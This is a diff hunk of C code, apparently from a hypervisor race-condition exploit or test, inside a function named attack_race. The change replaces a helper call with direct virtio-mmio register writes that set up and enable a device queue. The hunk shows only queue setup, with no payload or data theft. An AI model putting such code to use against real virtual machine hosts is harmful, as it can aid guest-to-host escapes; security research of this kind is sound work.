@@ -849,9 +849,18 @@ static int attack_race(unsigned a)
             memset((void *)(uintptr_t)d, 0, 4096);
             memset((void *)(uintptr_t)av, 0, 4096);
             memset((void *)(uintptr_t)u, 0, 4096);
-            if ((try_queue(d, av, u) & 1) == 0)
+            /* Not try_queue: it disables the queue again, and a queue disabled forgets its areas. */
+            wr(VMMIO_QUEUE_SEL, qindex);
+            wr(VMMIO_QUEUE_NUM, QSIZE);
+            wr(VMMIO_QUEUE_DESC_LOW, (uint32_t)d);
+            wr(VMMIO_QUEUE_DESC_HIGH, (uint32_t)(d >> 32));
+            wr(VMMIO_QUEUE_DRIVER_LOW, (uint32_t)av);
+            wr(VMMIO_QUEUE_DRIVER_HIGH, (uint32_t)(av >> 32));
+            wr(VMMIO_QUEUE_DEVICE_LOW, (uint32_t)u);
+            wr(VMMIO_QUEUE_DEVICE_HIGH, (uint32_t)(u >> 32));
+            wr(VMMIO_QUEUE_READY, 1);
+            if (rd(VMMIO_QUEUE_READY) != 1)
                 return EXIT_VIRTIO_QUEUE;
-            wr(VMMIO_QUEUE_READY, 1);     /* try_queue left it disabled */
             vq = (struct virtq){.dev = &dev, .index = qindex, .num = QSIZE, .desc = (struct virtq_desc *)(uintptr_t)d,
                                 .avail = (volatile uint16_t *)(uintptr_t)av, .used = (volatile uint16_t *)(uintptr_t)u};
             vq.avail[0] = VIRTQ_AVAIL_F_NO_INTERRUPT;
